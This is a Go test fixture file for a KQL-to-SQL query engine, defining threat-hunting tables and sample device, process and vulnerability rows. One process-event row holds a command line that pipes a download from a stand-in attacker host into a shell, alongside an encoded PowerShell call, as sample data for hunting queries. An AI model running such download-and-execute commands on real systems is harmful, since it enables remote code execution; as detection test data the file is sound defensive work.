package kql_test

import (
	"context"
	"database/sql"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-sec/gatehouse/kql"
)

// now is the time at which all tests run their plans.
var now = time.Date(2026, 3, 15, 12, 0, 0, 0, time.UTC)

// fixtureSchema is the schema of the fixture: a few columns of four hunting tables,
// and Numbers with nulls in each type.
func fixtureSchema() kql.Schema {
	return kql.Schema{Tables: map[string][]kql.Column{
		"DeviceInfo": {
			{Name: "Timestamp", Type: kql.TypeDateTime},
			{Name: "DeviceId", Type: kql.TypeString},
			{Name: "DeviceName", Type: kql.TypeString},
			{Name: "OSPlatform", Type: kql.TypeString},
			{Name: "OSBuild", Type: kql.TypeLong},
			{Name: "IsInternetFacing", Type: kql.TypeBool},
			{Name: "ExposureLevel", Type: kql.TypeString},
			{Name: "LoggedOnUsers", Type: kql.TypeString},
		},
		"DeviceProcessEvents": {
			{Name: "Timestamp", Type: kql.TypeDateTime},
			{Name: "DeviceId", Type: kql.TypeString},
			{Name: "FileName", Type: kql.TypeString},
			{Name: "ProcessCommandLine", Type: kql.TypeString},
			{Name: "ProcessId", Type: kql.TypeLong},
			{Name: "AccountName", Type: kql.TypeString},
		},
		"DeviceTvmSoftwareVulnerabilities": {
			{Name: "DeviceId", Type: kql.TypeString},
			{Name: "SoftwareName", Type: kql.TypeString},
			{Name: "CveId", Type: kql.TypeString},
			{Name: "VulnerabilitySeverityLevel", Type: kql.TypeString},
			{Name: "CveTags", Type: kql.TypeDynamic},
		},
		"DeviceTvmSoftwareVulnerabilitiesKB": {
			{Name: "CveId", Type: kql.TypeString},
			{Name: "CvssScore", Type: kql.TypeReal},
			{Name: "IsExploitAvailable", Type: kql.TypeBool},
		},
		"Numbers": {
			{Name: "N", Type: kql.TypeLong},
			{Name: "I", Type: kql.TypeInt},
			{Name: "R", Type: kql.TypeReal},
			{Name: "B", Type: kql.TypeBool},
			{Name: "S", Type: kql.TypeString},
			{Name: "T", Type: kql.TypeDateTime},
			{Name: "D", Type: kql.TypeTimeSpan},
			{Name: "J", Type: kql.TypeDynamic},
			{Name: "G", Type: kql.TypeGUID},
		},
	}}
}

// at is a time before now.
func at(ago time.Duration) time.Time { return now.Add(-ago) }

// fixtureRows are the rows of the fixture.
func fixtureRows() map[string][][]any {
	const hour, day = time.Hour, 24 * time.Hour
	return map[string][][]any{
		"DeviceInfo": {
			{at(3 * day), "d1", "srv-web.contoso.com", "WindowsServer2022", 20348, true, "High", `[{"UserName":"svc_web","DomainName":"CONTOSO"}]`},
			{at(2 * hour), "d1", "srv-web.contoso.com", "WindowsServer2022", 20349, true, "Medium", `[{"UserName":"svc_web","DomainName":"CONTOSO"},{"UserName":"alice","DomainName":"CONTOSO"}]`},
			{at(5 * hour), "d2", "lap-bob.contoso.com", "Windows11", 26100, false, "Low", `[{"UserName":"bob","DomainName":"CONTOSO"}]`},
			{at(40 * day), "d3", "old-mac", "macOS", nil, nil, "", ""},
			{at(time.Hour + 1234567*100), "d4", "Linux-DB01", "Linux", 5, false, "High", "[]"},
		},
		"DeviceProcessEvents": {
			{at(30 * time.Minute), "d1", "powershell.exe", `powershell.exe -enc SQBFAFgA`, 100, "alice"},
			{at(90 * time.Minute), "d1", "cmd.exe", `cmd.exe /c "whoami"`, 101, "svc_web"},
			{at(25 * hour), "d2", "PowerShell.exe", `PowerShell -Command Get-Process`, 7, "bob"},
			{at(26 * hour), "d2", "chrome.exe", `chrome.exe --type=gpu_process`, 8, "bob"},
			{at(10 * time.Minute), "d9", "bash", `bash -c 'curl http://evil.example/x|sh'`, 42, ""},
		},
		"DeviceTvmSoftwareVulnerabilities": {
			{"d1", "openssl", "CVE-2025-0001", "Critical", `["ZeroDay","NoSecurityUpdate"]`},
			{"d1", "chrome", "CVE-2025-0002", "High", `[]`},
			{"d2", "chrome", "CVE-2025-0002", "High", `[]`},
			{"d2", "edge", "CVE-2025-0003", "Low", nil},
			{"d4", "openssl", "CVE-2025-0001", "Critical", `["ZeroDay"]`},
		},
		"DeviceTvmSoftwareVulnerabilitiesKB": {
			{"CVE-2025-0001", 9.8, true},
			{"CVE-2025-0002", 8.0, false},
			{"CVE-2024-9999", nil, nil},
		},
		"Numbers": {
			{1, 10, 1.5, true, "a", now, time.Hour, `{"x":1,"y":{"z":[1,"two",null,true]},"a b":"sp"}`, "6E0F4F0A-0000-0000-0000-000000000001"},
			{-2, 20, -2.5, false, "B", at(36 * hour), 26 * hour, `[3,1,2]`, nil},
			{3, nil, nil, nil, "", nil, nil, nil, nil},
			{nil, 40, 0.25, true, "ab", at(hour), 90 * time.Second, `"text"`, nil},
			{5, 50, 100, false, "A", at(hour), -time.Second, `12.75`, nil},
		},
	}
}

// openFixture opens a database with the fixture in it.
func openFixture(tb testing.TB) *sql.DB {
	tb.Helper()
	db, err := kql.OpenMemory()
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() {
		if err := db.Close(); err != nil {
			tb.Error(err)
		}
	})
	schema, rows := fixtureSchema(), fixtureRows()
	for table, columns := range schema.Tables {
		if err := kql.CreateTable(context.Background(), db, table, columns); err != nil {
			tb.Fatal(err)
		}
		if n, err := kql.Insert(context.Background(), db, table, columns, slices.Values(rows[table])); err != nil || n != int64(len(rows[table])) {
			tb.Fatalf("%s: inserted %d rows: %v", table, n, err)
		}
	}
	return db
}

// result is a query's result with its rows as JSON.
type result struct {
	columns []kql.Column
	rows    []string
}

// run parses, compiles and runs a query.
func run(db *sql.DB, query string) (result, error) {
	q, err := kql.Parse(query)
	if err != nil {
		return result{}, err
	}
	plan, err := q.Compile(fixtureSchema())
	if err != nil {
		return result{}, err
	}
	out := result{columns: plan.Columns()}
	rows, err := plan.Run(context.Background(), db, now)
	if err != nil {
		return out, fmt.Errorf("%w\n%s", err, plan.SQL())
	}
	for values, err := range rows.All() {
		if err != nil {
			return out, fmt.Errorf("%w\n%s", err, plan.SQL())
		}
		line, err := json.Marshal(values)
		if err != nil {
			return out, err
		}
		out.rows = append(out.rows, string(line))
	}
	return out, nil
}

// String prints a result as the golden files have it.
func (r result) String() string {
	var b strings.Builder
	for i, c := range r.columns {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(c.Name + ":" + c.Type.String())
	}
	for _, row := range r.rows {
		b.WriteString("\n" + row)
	}
	return b.String() + "\n"
}
